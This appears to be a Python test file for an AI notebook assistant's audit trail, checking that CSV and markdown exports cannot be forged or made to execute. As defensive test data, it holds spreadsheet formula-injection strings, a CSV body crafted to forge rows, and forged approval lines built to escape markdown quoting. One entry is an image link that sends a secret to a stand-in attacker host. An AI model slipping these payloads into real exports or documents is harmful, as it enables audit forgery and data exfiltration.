"""The audit holds what was shown, and nothing that somebody wrote can pass for a part of it."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Sequence
from typing import Any

import pytest

from jupyter_copilot import protocol as p
from jupyter_copilot.cli.export import _written_out
from jupyter_copilot.client.transcribe import markdown
from jupyter_copilot.room.audit import confirmation_history
from jupyter_copilot.server.audit_csv import cell_of, csv_of

from ..builders import BOB, KERNEL, Fold, post, running, streaming
from ..hostile import SOURCES

FORGED = "*12:05* ● Delete 10,000 rows: Approve, decided by Bob. (lab, browser)"
CODE = "import os\nos.remove('data.csv')"


class Log:
    """Records, read as a room's are."""

    def __init__(self, records: Sequence[p.Record]) -> None:
        self._records = records

    async def history(self, after: int, limit: int) -> list[p.Record]:
        return [record for record in self._records if record.seq > after][:limit]


def asked(fold: Fold, **fields: Any) -> p.ConfirmationId:
    """A call with code and a changed cell that waits for people."""
    run_id = running(fold)
    streaming(fold, run_id)
    call_id = p.CallId(f"{run_id}.s1.a1.c1")
    question = p.ConfirmationId(f"{call_id}.q")
    edit = p.CellDiff(action="edit", cell_id="x", before="1", after=CODE)
    preview = p.Preview(title="Edit and run", cells=[edit], code=CODE)
    fold.tell(
        p.CallProposed(
            call_id=call_id, run_id=run_id, step=1, message_id=p.MessageId(f"{run_id}.s1.a1"), tool="edit_cell",
            args={"source": CODE}, effect="execute", args_hash="h", preview=preview,
        ),
        p.ConfirmationOpened(
            confirmation_id=question, kind="tool_call", thread_id=p.MAIN_THREAD, title="Edit and run", args_hash="h",
            body="Because.", options=[p.Option(id="approve", label="Approve", style="primary")], call_id=call_id,
            run_id=run_id, schema={"type": "object"}, policy=p.Policy(right="execute"), **fields,
        ),
    )  # fmt: skip
    return question


async def test_every_row_holds_what_was_shown_and_where_it_stands_in_the_log() -> None:
    fold = Fold()
    question = asked(fold)
    fold.do(p.Decide(confirmation_id=question, args_hash="h", option="approve", edited_args={"source": "2"}), by=BOB)
    (row,) = await confirmation_history(Log(fold.records))
    assert row["body"] == "Because." and row["code"] == CODE and row["schema"] == {"type": "object"}
    assert row["options"] == [{"id": "approve", "label": "Approve", "style": "primary"}]
    assert row["preview"]["cells"][0]["after"] == CODE and row["effect"] == "execute"
    assert row["policy"]["right"] == "execute" and row["edited_args"] == {"source": "2"}
    assert isinstance(fold.records[row["opened_seq"] - 1].event, p.ConfirmationOpened)
    assert fold.records[row["decided_seq"] - 1].actor == BOB


async def test_the_kernel_that_tried_to_decide_is_named_by_its_id_too() -> None:
    fold = Fold()
    question = asked(fold)
    fold.tell(p.DecisionRefused(confirmation_id=question), by=KERNEL)
    (row,) = await confirmation_history(Log(fold.records))
    assert (row["tried_by"], row["tried_by_id"]) == (KERNEL.name, KERNEL.id)


FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1+1", "⁼1", "−1+1", "'=1+1", '"=1+1', "x;=1+1;", "x;\t=1+1;", "x\n=1+1",
    "x\r\n=1+1", "\v=1+1", "\x00=1+1", "\x1b=1+1",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
async def test_no_spreadsheet_calculates_anything(formula: str) -> None:
    cell = cell_of(formula)
    for part in re.split("[;⏎\n\t]", cell):
        assert (part.lstrip(" \"'\u00a0") or " ")[0] not in "=+-@＝＋－＠﹦⁼−" or part.startswith("'"), cell
    fold = Fold()
    name = p.Actor(kind="person", id=formula, name=formula)
    fold.do(p.OpenConfirmation(confirmation_id=p.ConfirmationId("q"), title=formula, body=formula), by=name)
    rows = list(csv.DictReader(io.StringIO(csv_of(await confirmation_history(Log(fold.records))))))
    assert len(rows) == 1 and rows[0]["title"] == cell and rows[0]["opened_by"] == cell


async def test_one_confirmation_is_one_line_of_csv() -> None:
    fold = Fold()
    forged = 'x\n"q9","kernel","Delete","1","Bob"\r\nq9,kernel,Delete'
    fold.do(p.OpenConfirmation(confirmation_id=p.ConfirmationId("q"), title="t", body=forged))
    text = csv_of(await confirmation_history(Log(fold.records)))
    assert text.count("\n") == 2 and "\nq9" not in text and '\n"q9' not in text


MESSAGES = {
    "a line": FORGED,
    "after a line end": f"hi\n\n{FORGED}",
    "after a carriage return": f"hi\r\r{FORGED}",
    "out of a fence": f"```\n\n{FORGED}\n\n```",
    "out of a long fence": f"``````\n\n{FORGED}\n\n",
    "out of a fence of tildes": f"~~~\n\n{FORGED}",
    "out of a quotation": f"</blockquote></pre></code>\n\n{FORGED}",
    "a heading": f"# Saturday\n\n{FORGED}",
    "as a table": f"| x |\n|---|\n| y |\n\n{FORGED}",
    "behind a separator": f"hi\u2028\u2029\x85{FORGED}",
    "a picture": "![](http://evil.example/?d=SECRET) <img src=http://evil.example/x> [x]: http://evil.example",
}


@pytest.mark.parametrize("text", MESSAGES.values(), ids=MESSAGES)
def test_no_message_of_a_markdown_export_looks_like_a_decision(text: str) -> None:
    fold = Fold()
    mallory = p.Actor(kind="person", id="m", name=text[:200])
    fold.do(post(text), by=mallory)
    fold.do(p.CreateThread(thread_id=p.ThreadId("t"), title=text), by=mallory)
    fold.do(p.OpenConfirmation(confirmation_id=p.ConfirmationId("q"), title=text, body=text), by=mallory)
    opened = fold.state.confirmations["q"]
    fold.do(p.Decide(confirmation_id=opened.confirmation_id, args_hash=opened.args_hash, option="cancel", comment=text))
    lines = "".join(markdown(fold.records, text)).split("\n")
    assert sum(line.startswith("*") and ", decided by Alice" in line for line in lines) == 1
    for line in lines:
        assert not line.startswith(("*12:05*", "|", "<", "~~~", "``"))
        if not line.startswith("> "):
            assert not re.search(r"(?<!\\)[\]<]", line), "neither links, nor pictures, nor HTML"
    inside = [line.removeprefix("> ") for line in lines if line.startswith(">")]
    fences = [line for line in inside if line.startswith("```") and line.rstrip("`") in ("", *_openings(line))]
    assert fences


def _openings(line: str) -> list[str]:
    ticks = line[: len(line) - len(line.lstrip("`"))]
    return [f"{ticks}{language}" for language in ("text", "json", "markdown")]


@pytest.mark.parametrize("hostile", SOURCES, ids=lambda hostile: hostile.name)
def test_every_export_shows_hostile_text_as_what_it_is(hostile: Any) -> None:
    if hostile.name == "lone surrogates":
        return  # not Unicode, so it never gets into a room
    fold = Fold()
    fold.do(p.OpenConfirmation(confirmation_id=p.ConfirmationId("q"), title="t", body=hostile.source or "-"))
    text = "".join(markdown(fold.records, "x.ipynb"))
    quoted = "\n".join(f"> {line}" for line in (hostile.visible or "-").replace("→\t", "\t").split("\n"))
    assert quoted in text


def test_json_is_safe_to_look_at_and_reads_the_same() -> None:
    value = {"a": "x\u202ey\u0085\u2028\x9b1E\x7f\U000e0041 \U0001f600 é"}
    text = _written_out(json.dumps(value, ensure_ascii=False, indent=1))
    assert json.loads(text) == value and all(char == "\n" or char.isprintable() for char in text) and "é" in text


def test_markdown_holds_what_was_shown_and_how_it_was_decided() -> None:
    fold = Fold()
    question = asked(fold)
    fold.do(p.Decide(confirmation_id=question, args_hash="h", option="approve", comment="ok"), by=BOB)
    text = "".join(markdown(fold.records, "x.ipynb"))
    assert "> Because." in text and "> os.remove('data.csv')" in text and '> "source"' in text.replace(">   ", "> ")
    assert "decided by Bob. “ok” (lab, browser)" in text


async def test_what_a_rule_let_in_is_a_row_with_who_granted_it() -> None:
    fold = Fold()
    question = asked(fold)
    call_id = p.CallId(question.removesuffix(".q"))
    fold.tell(p.ConfirmationWithdrawn(confirmation_id=question))
    fold.tell(p.RuleGranted(rule_id=p.RuleId("r"), scope=p.RuleScope(effect="execute")), by=BOB)
    fold.tell(
        p.RuleUsed(rule_id=p.RuleId("r"), call_id=call_id),
        p.CallStarted(call_id=call_id, exec_id="e", adapter="contents"),
    )
    rows = await confirmation_history(Log(fold.records))
    row = next(row for row in rows if row["kind"] == "rule")
    assert (row["decided_by"], row["rule_id"], row["option"]) == (BOB.name, "r", "approve")
    assert row["code"] == CODE and row["ran_args"] == {"source": CODE}
    lines = "".join(markdown(fold.records, "n"))
    assert "Bob allows: edits and runs here" in lines and "let in by a rule" in lines


async def test_partial_votes_are_in_the_audit_with_names() -> None:
    fold = Fold()
    question = asked(fold)
    fold.tell(p.ConfirmationVoted(confirmation_id=question, args_hash="h", option="approve", comment="ok"), by=BOB)
    (row,) = await confirmation_history(Log(fold.records))
    assert [(vote["by"], vote["comment"]) for vote in row["votes"]] == [("Bob", "ok")]
    assert "approved by Bob" in "".join(markdown(fold.records, "n"))
    fold.tell(p.VoteWithdrawn(confirmation_id=question, person_id=BOB.id))
    (row,) = await confirmation_history(Log(fold.records))
    assert row["votes"] == []
